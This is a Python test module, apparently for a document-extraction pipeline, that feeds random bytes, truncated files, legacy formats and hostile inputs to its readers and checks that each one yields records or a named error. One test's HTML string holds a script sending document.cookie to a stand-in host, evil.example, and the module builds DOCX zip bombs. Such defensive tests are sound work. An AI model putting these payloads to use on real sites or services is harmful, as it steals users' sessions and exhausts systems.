"""Hostile and broken inputs: every reader answers with documents or a reason, never a crash."""
from __future__ import annotations

import io
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pipeline.process import extract_records
from tests.conftest import SAMPLES as SAMPLES_DIR

REASONS = {"unsupported_format", "no_text_layer", "decode_error", "empty_after_cleaning", "not_a_document", "too_large"}
SUFFIXES = [".txt", ".md", ".html", ".pdf", ".docx", ".doc", ".wps", ".xlsx", ".rar", ""]


def outcome_ok(records: list[dict]) -> bool:
    return bool(records) and all(r.get("error") in REASONS or (r.get("doc_id") and not r.get("error")) for r in records)


@pytest.mark.parametrize("suffix", SUFFIXES)
@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.binary(max_size=3000))
def test_random_bytes(tmp_path, suffix, data):
    p = tmp_path / f"x{suffix}"
    p.write_bytes(data)
    assert outcome_ok(extract_records(p))


MAGIC = {".pdf": b"%PDF-1.7\n", ".docx": b"PK\x03\x04", ".html": b"<html><body>"}


@pytest.mark.parametrize("suffix", list(MAGIC))
@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.binary(max_size=3000))
def test_random_bytes_behind_a_format_signature(tmp_path, suffix, data):
    p = tmp_path / f"x{suffix}"
    p.write_bytes(MAGIC[suffix] + data)
    assert outcome_ok(extract_records(p))


@pytest.mark.parametrize("name", ["zibo_county_health_plan.pdf", "qingdao_elderly_care_notice.html",
                                  "jinan_primary_care_plan_traditional.txt"])
@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(cut=st.floats(min_value=0.0, max_value=1.0))
def test_truncated_files(tmp_path, samples, name, cut):
    data = (samples / name).read_bytes()
    p = tmp_path / name
    p.write_bytes(data[: int(len(data) * cut)])
    assert outcome_ok(extract_records(p))


def test_docx_zip_bomb_is_refused(tmp_path):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        with z.open("word/document.xml", "w") as f:
            chunk = b"\0" * (1 << 20)
            for _ in range(260):  # 260 MB inflated, a few hundred KB on disk
                f.write(chunk)
    p = tmp_path / "bomb.docx"
    p.write_bytes(buf.getvalue())
    assert p.stat().st_size < 2_000_000
    (rec,) = extract_records(p)
    assert rec["error"] == "too_large" and "inflates" in rec["detail"]


def test_deeply_nested_script_laden_html(tmp_path):
    body = "<div>" * 5000 + "<p>" + "某市关于加强安全生产工作的通知，各单位要认真落实。" * 5 + "</p>" + "</div>" * 5000
    html = ("<html><head><script>window.location='http://evil.example/'; document.write('注入内容注入内容')</script></head>"
            f"<body onload=\"alert('x')\"><iframe src='javascript:alert(1)'></iframe>{body}"
            "<script>fetch('http://evil.example/'+document.cookie)</script></body></html>")
    p = tmp_path / "nested.html"
    p.write_text(html, encoding="utf-8")
    recs = extract_records(p)
    assert outcome_ok(recs)
    text = "".join(r.get("title") or "" for r in recs)
    assert "注入内容" not in text and "evil" not in str(recs)


def _bomb() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", b"\0" * (200 << 20))
    return buf.getvalue()


HOSTILE = {
    "bomb.docx": _bomb,
    "random.pdf": lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40,
    "half.pdf": lambda: (SAMPLES_DIR / "zibo_county_health_plan.pdf").read_bytes()[:3000],
    "nul.txt": lambda: "通知".encode() + b"\0\0\0" * 100,
    "empty.txt": lambda: b"",
    "名字 with spaces & 'quotes'.html": lambda: b"<html><body><ul><li><a href='/a'>a</a></li></ul></body></html>",
    "legacy.doc": lambda: b"\xd0\xcf\x11\xe0" + b"\0" * 1000,
}


def test_a_batch_of_hostile_inputs_keeps_what_was_stored(tmp_path, samples):
    """The hostile files of this module in one run beside the samples: each gets an error row naming it
    with a reason, the batch finishes, and the documents stored by an earlier run are all still there."""
    import shutil
    import sqlite3

    from pipeline.flows import process_flow

    inputs, out = tmp_path / "in", tmp_path / "out"
    shutil.copytree(samples, inputs)
    process_flow([str(inputs)], str(out))
    with sqlite3.connect(out / "policy.sqlite") as c:
        before = set(c.execute("SELECT doc_id FROM documents").fetchall())
    for name, make in HOSTILE.items():
        (inputs / name).write_bytes(make())
    process_flow([str(inputs)], str(out))
    with sqlite3.connect(out / "policy.sqlite") as c:
        after = set(c.execute("SELECT doc_id FROM documents").fetchall())
        errors = dict(c.execute("SELECT source, error FROM errors").fetchall())
    assert after == before
    for name in HOSTILE:
        (reason,) = [e for s, e in errors.items() if s.endswith(name)]
        assert reason in REASONS
